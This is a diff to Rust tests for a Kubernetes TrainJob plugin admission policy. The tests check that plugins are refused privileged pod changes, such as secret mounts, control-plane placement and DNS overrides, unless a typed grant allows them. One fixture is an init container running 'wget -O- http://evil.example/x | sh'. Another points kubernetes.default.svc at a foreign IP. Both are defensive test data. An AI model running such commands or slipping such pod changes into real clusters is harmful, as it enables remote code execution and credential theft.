@@ -846,6 +846,93 @@ fn privileged_changes() -> Vec<(&'static str, &'static str, Value, &'static str)
             json!([{"containerPort": 22, "hostPort": 22}]),
             "hostPorts",
         ),
+        // Beyond baseline, by allow-list: what plugins may not change in
+        // pods without the typed grant that names it.
+        (
+            "info",
+            leak("/automountServiceAccountToken"),
+            json!(true),
+            "serviceAccountTokens",
+        ),
+        (
+            "info",
+            leak("/volumes"),
+            json!([{"name": "t", "projected": {"sources": [{"serviceAccountToken": {"audience": "vault", "path": "t"}}]}}]),
+            "serviceAccountTokens",
+        ),
+        (
+            "info",
+            leak("/containers/0/env"),
+            json!([{"name": "PW", "valueFrom": {"secretKeyRef": {"name": "db", "key": "pw"}}}]),
+            "secret=db",
+        ),
+        (
+            "info",
+            leak("/containers/0/envFrom"),
+            json!([{"secretRef": {"name": "db"}}]),
+            "secret=db",
+        ),
+        (
+            "info",
+            leak("/volumes"),
+            json!([{"name": "s", "secret": {"secretName": "db"}}]),
+            "secret=db",
+        ),
+        (
+            "info",
+            leak("/nodeName"),
+            json!("control-plane-0"),
+            "nodePlacement=*",
+        ),
+        (
+            "info",
+            leak("/nodeSelector"),
+            json!({"node-role.kubernetes.io/control-plane": ""}),
+            "nodePlacement=node-role.kubernetes.io/control-plane",
+        ),
+        (
+            "info",
+            leak("/tolerations"),
+            json!([{"operator": "Exists"}]),
+            "nodePlacement=*",
+        ),
+        (
+            "info",
+            leak("/priorityClassName"),
+            json!("system-node-critical"),
+            "priorityClass=system-node-critical",
+        ),
+        (
+            "info",
+            leak("/schedulerName"),
+            json!("rogue-scheduler"),
+            "schedulerName=rogue-scheduler",
+        ),
+        ("info", leak("/dnsPolicy"), json!("None"), "dns"),
+        (
+            "info",
+            leak("/hostAliases"),
+            json!([{"ip": "6.6.6.6", "hostnames": ["kubernetes.default.svc"]}]),
+            "dns",
+        ),
+        (
+            "info",
+            leak("/initContainers"),
+            json!([{"name": "fetch", "image": "busybox", "command": ["sh", "-c", "wget -O- http://evil.example/x | sh"]}]),
+            "container=fetch",
+        ),
+        (
+            "info",
+            leak("/runtimeClassName"),
+            json!("unsandboxed"),
+            "privileged",
+        ),
+        (
+            "trainjob",
+            "/spec/podTemplateOverrides",
+            json!([{"targetJobs": [{"name": "node"}], "spec": {"tolerations": [{"operator": "Exists"}]}}]),
+            "nodePlacement=*",
+        ),
         (
             "trainjob",
             "/spec/trainer/image",
@@ -876,6 +963,31 @@ fn pod_privileges_a_plugin_adds_are_refused_unless_granted() {
             pipeline(vec![rt.load(src).unwrap()])
                 .unwrap_or_else(|e| panic!("{pointer} with {grant}: {e}"));
         }
+    }
+}
+
+/// A Secret named from the TrainJob (`<trainjob>-…`, what its plugins may
+/// emit: MPI's SSH keys) may be mounted without a grant; any other Secret
+/// of the namespace may not (a confused deputy: the plugin has no grant to
+/// read it, and would hand it to the user's code).
+#[test]
+fn only_the_trainjobs_own_secrets_are_mounted_without_a_grant() {
+    let rt = short_deadline_runtime();
+    let pod = "/templateSpec/obj/replicatedJobs/0/template/spec/template/spec";
+    let mount = |secret: &str| {
+        json!({"set": [{"phase": "enforce-pod-spec", "target": "info", "pointer": format!("{pod}/volumes"),
+            "value": [{"name": "keys", "secret": {"secretName": secret}}]}]})
+    };
+    for own in ["job", "job-mpi-ssh-auth"] {
+        pipeline(vec![load(&rt, None, mount(own))]).unwrap_or_else(|e| panic!("{own}: {e}"));
+    }
+    for foreign in ["jobx", "db-credentials", "job2-ssh"] {
+        let e = pipeline(vec![load(&rt, None, mount(foreign))]).unwrap_err();
+        assert_eq!(e.reason(), "PodSecurity", "{foreign}: {e}");
+        assert!(
+            e.to_string().contains(foreign) && e.to_string().contains("grants.pod.secretNames"),
+            "{e}"
+        );
     }
 }
 
